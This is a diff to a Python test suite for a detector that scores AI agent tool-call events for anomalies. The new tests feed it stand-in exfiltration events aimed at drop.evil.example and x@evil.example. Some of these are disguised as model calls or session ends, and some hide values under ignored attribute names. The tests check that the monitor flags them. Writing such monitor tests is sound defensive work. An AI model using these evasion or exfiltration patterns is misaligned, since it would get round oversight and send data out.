@@ -9,7 +9,7 @@ import pytest
 
 from detector.pipeline import Pipeline
 from detector.simulate.fleet import DAY_S
-from tests.streams import Look, Script, feed, ordinary, quick, quiet, trained
+from tests.streams import Look, Script, feed, ordinary, quick, quiet, taught, trained
 
 KNOWN = "/docs/team/file-3"
 CLERK: dict[str, Any] = {"agent_id": "a-1", "session_id": "live"}
@@ -158,20 +158,11 @@ def test_an_amount_far_from_usual_raises_volume_and_a_usual_one_does_not() -> No
     assert look.bits["number"].tolist() == [0.0, 0.0]
 
 
-def test_an_ignored_attribute_raises_nothing() -> None:
-    """Neither as a value nor as a number."""
-    plain, noted = (
-        looks([{"name": "write", "target": KNOWN}]),
-        looks(
-            [
-                {
-                    "name": "write",
-                    "target": KNOWN,
-                    "attributes": {"error_class": "Boom!", "src_bytes": 9e9, "n_tool_calls": 1e6},
-                }
-            ]
-        ),
-    )
+def test_an_ignored_attribute_of_a_call_that_failed_raises_nothing() -> None:
+    """Neither as a value nor as a number; why a call failed stands in such attributes."""
+    failed: dict[str, Any] = {"name": "write", "target": KNOWN, "outcome": "error"}
+    plain = looks([failed])
+    noted = looks([{**failed, "attributes": {"error_class": "Boom!", "src_bytes": 9e9, "n_tool_calls": 1e6}}])
     for channel, bits in plain.bits.items():
         assert bits[0] == noted.bits[channel][0], channel
 
@@ -210,17 +201,25 @@ def test_a_pair_nobody_uses_raises_pair_more_than_a_common_one() -> None:
     assert look.bits["pair"][1] > look.bits["pair"][0] + 3.0
 
 
-def test_a_failed_event_weighs_three_tenths_and_a_read_half() -> None:
-    """What did no harm counts for less."""
-    look = looks(
-        [
-            {"name": "write", "target": "/new/place/file"},
-            {"name": "write", "target": "/new/place/file", "outcome": "denied"},
-            {"name": "read", "target": "/new/place/file", "kind": "data_access"},
-            {"name": "read", "target": "/new/place/file", "kind": "data_access", "outcome": "error"},
-        ]
-    )
-    assert look.factor == pytest.approx([1.0, 0.3, 0.5, 0.15])
+def test_a_read_counts_half_where_the_tool_is_known_to_read_and_a_failure_as_far_as_it_is_known_to_fail() -> None:
+    """Whoever writes the event declares both: `read` has read in every session, `write` never, and none has failed."""
+    read: dict[str, Any] = {"target": "/new/place/file", "kind": "data_access"}
+    look = looks([{"name": "write"}, {"name": "read", **read}, {"name": "write", **read}, {"name": "write"}])
+    failed = looks([{"name": "write", "target": "/new/place/file", "outcome": "error"}])
+    assert look.factor[[0, 1, 3]] == pytest.approx([1.0, 0.5, 1.0])
+    assert look.factor[2] > 0.98
+    assert 0.7 < failed.factor[0] < 0.9
+
+
+def test_a_tool_that_often_fails_has_the_whole_discount_for_it() -> None:
+    """Three tenths, earned among its peers."""
+    script = Script()
+    pipeline = trained(script)
+    for number in range(60):
+        attempts = [{"name": "flaky", "target": "index-1", "outcome": "error" if number % 2 else "ok"}]
+        feed(pipeline, script.session(f"f-{number}", attempts, agent_id="a-2"))
+    look = Look(pipeline, [script.event(**CLERK, name="flaky", target="/new/place", outcome="error")])
+    assert look.factor[0] == pytest.approx(0.3)
 
 
 def origins(*fields: dict[str, Any]) -> Look:
@@ -286,12 +285,97 @@ def test_a_value_seen_earlier_in_the_session_is_an_echo_and_weighs_half() -> Non
 
 @pytest.mark.parametrize("kind", ["llm_call", "lifecycle"])
 def test_what_is_no_action_scores_nothing_and_disturbs_no_sequence(kind: str) -> None:
-    """Thinking between two steps does not change what follows what."""
+    """Thinking between two steps, as always, does not change what follows what."""
     between = {"name": "think", "kind": kind, "target": "model-x"}
-    bare = looks([{"name": "search", "target": "index-1"}, {"name": "read", "target": KNOWN}])
-    look = looks([{"name": "search", "target": "index-1"}, between, {"name": "read", "target": KNOWN}])
+    script = Script()
+    pipeline = taught(script, [[between]] * 9)
+    steps = [{"name": "search", "target": "index-1"}, {"name": "read", "target": KNOWN}]
+    bare = Look(pipeline, [script.event(**{**CLERK, "session_id": "bare"}, **step) for step in steps])
+    look = Look(pipeline, [script.event(**CLERK, **step) for step in (steps[0], between, steps[1])])
     assert look.outcome.scores[1] == 0.0
     assert look.bits["transition"][2] == bare.bits["transition"][1]
+
+
+@pytest.mark.parametrize("kind", ["llm_call", "lifecycle"])
+def test_an_act_that_calls_itself_context_is_judged_as_what_it_does(kind: str) -> None:
+    """Its name and its values are what nobody knows of such events, whatever kind its sender chose."""
+    act = {"name": "exfiltrate", "target": "https://drop.evil.example/x", "attributes": {"to": "Zz9!"}}
+    hidden, open_ = looks([{**act, "kind": kind}]), looks([act])
+    assert hidden.level[0].tolist() == open_.level[0].tolist() == [5, 5]
+    assert hidden.outcome.scores[0] >= 0.9 * open_.outcome.scores[0] > 1.0
+
+
+def test_an_end_of_session_that_carries_something_is_an_act() -> None:
+    """Only a bare one is just an end."""
+    act = {"name": "session_end", "kind": "lifecycle", "target": "https://drop.evil.example/x"}
+    assert looks([act]).outcome.scores[0] > 1.0
+
+
+def test_a_new_credential_zone_or_user_is_a_value_of_its_own() -> None:
+    """Who acts, and for whom: what the agent always had is known, another one is not."""
+    who = {"credential": {"id": "c-1"}, "zone": "eu", "on_behalf_of": "kim"}
+    script = Script()
+    usual: dict[str, Any] = {"name": "search", "target": "index-1", **who}
+    pipeline = taught(script, [[usual]] * 12)
+    for number in range(60):
+        feed(pipeline, script.session(f"usual-{number}", [usual], agent_id=f"a-{number % 3}"))
+    same = Look(pipeline, [script.event(**CLERK, **usual)])
+    other = Look(pipeline, [script.event(**CLERK, **usual | {"credential": {"id": "x"}})])
+    assert same.bits["arguments"][0] == 0.0
+    assert other.bits["arguments"][0] > 1.0
+
+
+@pytest.mark.parametrize("name", ["error_class", "src_recipient"])
+def test_texts_under_ignored_names_in_a_call_that_went_well_are_seen(name: str) -> None:
+    """That they are there, and how long: a sender who hides values under such names is seen by that."""
+    hidden, bare = looks([{"name": "write", "attributes": {name: "x@evil.example"}}]), looks([{"name": "write"}])
+    assert hidden.bits["arguments"][0] > 1.0
+    assert bare.bits["arguments"][0] == 0.0
+
+
+def test_a_call_rehearsed_without_success_is_as_new_as_ever_when_it_succeeds() -> None:
+    """To calls that fail its values are known; those of a call that succeeded are known to both."""
+    act: dict[str, Any] = {"name": "send", "target": "x@evil.example", "attributes": {"note": "Zz9!"}}
+    levels = {}
+    for outcome in ("error", "ok"):
+        script = Script()
+        pipeline = taught(script, [[{**act, "outcome": outcome}]])
+        for now in ("error", "ok"):
+            look = Look(pipeline, [script.event(**{**CLERK, "session_id": now}, **act, outcome=now)])
+            levels[outcome, now] = look.level[0].tolist()
+    assert levels["error", "ok"] == [3, 3]  # the shape alone
+    assert levels["error", "error"] == levels["ok", "error"] == levels["ok", "ok"]
+    assert levels["ok", "ok"][0] <= 1
+
+
+def test_a_denial_has_its_discount_where_the_tool_is_known_to_be_denied() -> None:
+    """A tool that fails every other time, and was never denied, has none for a denial."""
+    script = Script()
+    pipeline = trained(script)
+    for number in range(60):
+        attempts = [{"name": "flaky", "target": "index-1", "outcome": "error" if number % 2 else "ok"},
+                    {"name": "walled", "target": "index-1", "outcome": "denied" if number % 2 else "ok"}]  # fmt: skip
+        feed(pipeline, script.session(f"f-{number}", attempts, agent_id="a-2"))
+    odd: dict[str, Any] = {"target": "/new/place", "outcome": "denied"}
+    look = Look(pipeline, [script.event(**CLERK, name=name, **odd) for name in ("flaky", "walled")])
+    assert look.factor[0] > 0.7
+    assert look.factor[1] == pytest.approx(0.3)
+
+
+def test_origins_that_are_left_out_where_they_always_stood_are_those_of_a_tool() -> None:
+    """Silence buys no discount; where nobody tells, it means nothing."""
+    told = {"arg_origin": {"target": "user", "note": "user"}}
+    script = Script()
+    mails = [
+        {"name": "mail", "target": f"user{n % 3}@corp.example", "attributes": {"note": f"n{n % 3}"}, **told}
+        for n in range(30)
+    ]
+    pipeline = taught(script, [[mail] for mail in mails])
+    odd: dict[str, Any] = {"name": "mail", "target": "x@evil.example", "attributes": {"note": "Zz9!"}}
+    silent = Look(pipeline, [script.event(**CLERK, **odd)])
+    from_tool = Look(pipeline, [script.event(**CLERK, **odd, arg_origin={"target": "tool", "note": "tool"})])
+    assert silent.bits["novelty_origin"][0] == silent.bits["novelty"][0] > 0.0
+    assert silent.bits["rarity"][0] == from_tool.bits["rarity"][0] > 1.0
 
 
 def test_a_first_event_of_a_first_agent_scores_finite_and_low() -> None:
@@ -313,4 +397,4 @@ def test_residuals_tell_the_gap_the_outcome_and_the_reach() -> None:
     assert later.residual[0, 2] > first.residual[0, 2]
     assert later.residual[0, 3] > first.residual[0, 3] + 2.0
     assert np.diff(later.residual[:, 4]).min() > 0
-    assert later.residual[:, 5].tolist() == pytest.approx(np.log2([1, 2, 3, 4]).tolist())
+    assert later.residual[:, 5].tolist() == pytest.approx(np.log2([2, 3, 4, 5]).tolist())
